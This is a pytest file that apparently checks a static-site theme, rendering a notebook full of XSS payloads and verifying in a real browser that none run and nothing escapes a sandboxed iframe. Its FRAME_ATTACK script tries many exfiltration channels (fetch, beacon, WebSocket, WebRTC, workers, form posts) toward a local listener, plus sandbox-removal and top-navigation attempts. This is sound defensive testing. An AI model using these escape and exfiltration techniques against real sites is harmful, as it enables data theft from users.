"""A hostile notebook in a real browser: nothing runs in a page, and nothing gets out of a frame."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import feedparser
import pytest

from tests.conftest import ROOT, Site, code, front, markdown, notebook, raw, serve
from tests.render.test_hostile import PAYLOADS

MARK = "hostile-was-here"
RUNS = f"try {{ top.{MARK.replace('-', '_')} = 1 }} catch {{}} document.title = '{MARK}'; alert(1)"
"""What a payload does instead of `alert(1)`, so that it is seen wherever it ran."""

FRAME_ATTACK = """\
<div id="out">waiting</div><canvas id="c"></canvas>
<script>
const address = "http://127.0.0.1:PORT/?leak=", report = [];
const attempt = (name, act) => { try { act(); } catch (error) { report.push(name); } };
const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
attempt("parent", () => { parent.document.title = "MARK"; });
attempt("top name", () => { top.hostile_was_here = 1; });
attempt("top navigation", () => { top.location = address + "top"; });
attempt("parent storage", () => { parent.localStorage.setItem("hostile", 1); });
attempt("own storage", () => { localStorage.setItem("hostile", 1); });
attempt("cookie", () => { document.cookie = "hostile=1"; });
attempt("frame element", () => { frameElement.removeAttribute("sandbox"); });
attempt("popup", () => { open(address + "popup"); });
attempt("fetch", () => { fetch(address + "fetch").catch(() => {}); fetch("/?own").catch(() => {}); });
attempt("beacon", () => { navigator.sendBeacon(address + "beacon", "x"); });
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", address + "xhr"); x.send(); });
attempt("socket", () => { new WebSocket("ws://127.0.0.1:PORT/"); });
attempt("events", () => { new EventSource(address + "events"); });
attempt("transport", () => { new WebTransport("https://127.0.0.1:PORT/").closed.catch(() => {}); });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob([`fetch("${address}worker")`]))); });
attempt("shared worker", () => { new SharedWorker(address + "shared"); });
attempt("service worker", () => { navigator.serviceWorker.register("/sw.js").catch(() => {}); });
attempt("image", () => { new Image().src = address + "image"; });
attempt("own host", () => { new Image().src = "/?leak=own"; });
attempt("elements", () => {
  add("script", { src: address + "script" });
  add("script", { type: "module", textContent: `import "${address}module"` });
  add("iframe", { src: address + "iframe" });
  add("iframe", { srcdoc: `<img src="${address}srcdoc">` });
  add("object", { data: address + "object" });
  add("embed", { src: address + "embed" });
  add("video", { src: address + "video", poster: address + "poster" });
  add("audio", { src: address + "audio" });
  for (const rel of ["stylesheet", "icon", "manifest", "prefetch", "modulepreload", "prerender"])
    add("link", { rel, href: address + rel });
  add("link", { rel: "preload", as: "image", href: address + "preload" });
  add("style", { textContent: `@import "${address}import"; body { background: url("${address}css") }` });
  add("style", { textContent: `@font-face { font-family: x; src: url("${address}font") } body { font-family: x }` });
  add("base", { href: address });
  add("meta", { httpEquiv: "refresh", content: `0;url=${address}refresh` });
  const form = Object.assign(document.createElement("form"), { action: address + "form", method: "post" });
  document.body.append(form);
  form.submit();
});
attempt("svg", () => { document.body.insertAdjacentHTML("beforeend",
  `<svg><image href="${address}svg"/><use href="${address}use"/></svg>`); });
attempt("messages", () => {
  for (const height of [1e9, "9", null, NaN, {}]) parent.postMessage({ colophon: "height", height }, "*");
  for (const data of [{ colophon: "open" }, null])
    parent.postMessage(data, "*");
});
const peer = `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
attempt("peer", () => new Function(peer)());
attempt("peer inside", () => add("iframe", { srcdoc: `<script>${peer}</` + "script>" }));
attempt("peer of a blank frame", () => {
  const inner = document.createElement("iframe");
  document.body.append(inner);
  window.RTCPeerConnection = inner.contentWindow.RTCPeerConnection;
  new Function(peer)();
});
attempt("history", () => { history.pushState({}, "", "/elsewhere/"); });
setTimeout(() => attempt("own navigation", () => { location = address + "self"; }), 1500);
document.getElementById("out").textContent = "attacked";
report.push("end");
</script>"""


class Listener:
    """Takes every connection to a port of this machine and remembers what it was sent.

    A connection without a byte does not count: Chromium may open one before it asks its policy.
    """

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", 0))
        self.datagram_port = self._datagrams.getsockname()[1]
        for listen in (self._listen, self._listen_to_datagrams):
            threading.Thread(target=listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            connection.settimeout(2)
            try:
                if data := connection.recv(200):
                    self.heard.append(data.decode("latin-1").partition("\r\n")[0])
            except OSError:
                pass
            connection.close()

    def _listen_to_datagrams(self) -> None:
        try:
            while self._datagrams.recv(100):
                self.heard.append("a datagram")
        except OSError:
            return

    def close(self) -> None:
        self._socket.close()
        self._datagrams.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[tuple[Path, str]]:
    """A site of one hostile post, built without mercy: every fault is let through."""
    site = Site(tmp_path_factory.mktemp("hostile") / "site")
    payloads = [payload.replace("alert(1)", RUNS) for payload in PAYLOADS]
    attack = (
        FRAME_ATTACK.replace("PORT", str(listener.port))
        .replace("UDP", str(listener.datagram_port))
        .replace("MARK", MARK)
    )
    cells = [markdown(f"Text {payload}\n\n{payload}") for payload in payloads]
    cells += [{**raw(payload), "metadata": {"raw_mimetype": "text/html"}} for payload in payloads[:20]]
    outputs = [_output(payload) for payload in payloads]
    metadata = {"text/html": {"isolated": f"</iframe>{payloads[0]}"}, payloads[0]: payloads[1]}
    outputs.append({**_output("<p>x</p>"), "metadata": metadata})
    outputs.append(_output("A-->B</script><script>" + RUNS + "</script>", "text/vnd.mermaid"))
    cells.append(code("\n".join(payloads[:5]), *outputs))
    cells.append(code("attack()", _output(attack)))
    title, tag, summary = payloads[0], f'evil <img src=x onerror="{RUNS}">', f"**x** {payloads[1]} {payloads[19]}"
    more = {"summary": summary, "tags": [tag, "plain"], "series": title, "authors": [title], "slug": "hostile"}
    site.add("hostile.ipynb", notebook(front(f"Hostile {title}", **more), *cells, title=title))
    severities = dict.fromkeys(("C301", "C402"), "warning")
    site.build(
        settings=f"THEME = {str(ROOT / 'theme')!r}\nSITEURL = ''\nFEED_DOMAIN = 'https://x.example'"
        f"\nRELATIVE_URLS = True\nCOLOPHON_SEVERITIES = {severities!r}\nCOLOPHON_FEED_ENTRY_BYTES = 50_000_000"
        "\nFEED_ALL_ATOM = 'feed.atom'"
    )
    entry = feedparser.parse(site.output / "feed.atom").entries[0]
    # what a reader of feeds shows that cleans nothing: without any policy
    feed = f"<title>Feed</title><body>{entry.summary}{entry.content[0].value}</body>"
    (site.output / "feed.html").write_text(feed)
    server, address = serve(site.output)
    yield site.output, address
    server.shutdown()
    server.server_close()


def _output(text: str, media_type: str = "text/html") -> dict[str, Any]:
    return {"output_type": "display_data", "data": {media_type: text, "text/plain": "x"}, "metadata": {}}


def _pages(folder: Path) -> list[str]:
    found = [path.relative_to(folder).as_posix() for path in folder.rglob("*.html")]
    return sorted(path for path in found if not path.startswith("assets/"))


def test_nothing_of_a_hostile_notebook_runs_in_a_page(hostile: tuple[Path, str], browser: Any) -> None:
    """Article, index, archive, tag and feed are opened; what ran would open a dialog, rename the page or mark it."""
    folder, address = hostile
    pages = _pages(folder)
    assert {"hostile.html", "index.html", "archives.html", "feed.html"} < set(pages) and len(pages) > 6
    context = browser.new_context()
    ran = []
    for name in pages:
        page = context.new_page()
        page.on("dialog", lambda dialog, name=name: (ran.append((name, "dialog")), dialog.dismiss()))
        page.goto(f"{address}/{name}", wait_until="load")
        page.wait_for_timeout(300)
        page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = !each.open; })")
        if page.evaluate("window.hostile_was_here") or page.title() == MARK or page.url != f"{address}/{name}":
            ran.append((name, page.title()))
        page.close()
    assert (ran, context.pages) == ([], [])
    context.close()


def test_nothing_gets_out_of_a_frame(hostile: tuple[Path, str], listener: Listener, browser: Any) -> None:
    """What runs in a frame tries everything that scripts can try; a real listener hears none of it."""
    _, address = hostile
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(f"{address}/hostile.html", wait_until="load")
    page.evaluate("localStorage.setItem('own', 'kept')")
    frame = page.locator("iframe.frame-window").last
    frame.scroll_into_view_if_needed()
    for _ in range(150):  # the last attempt, to leave the frame, ends it: then all were made
        if any(each.url.startswith("chrome-error:") for each in page.frames):
            break
        page.wait_for_timeout(200)
    else:
        pytest.fail("the attack did not run")
    page.wait_for_timeout(1000)
    assert page.url == f"{address}/hostile.html" and page.title() != MARK
    assert not page.evaluate("window.hostile_was_here")
    assert page.evaluate("JSON.stringify(localStorage)") == json.dumps({"own": "kept"}, separators=(",", ":"))
    assert context.cookies() == [] and context.pages == [page]
    assert int(frame.get_attribute("height")) <= 2000
    assert [url for url in asked if "leak" in url or "?own" in url] == []
    assert listener.heard == []
    context.close()
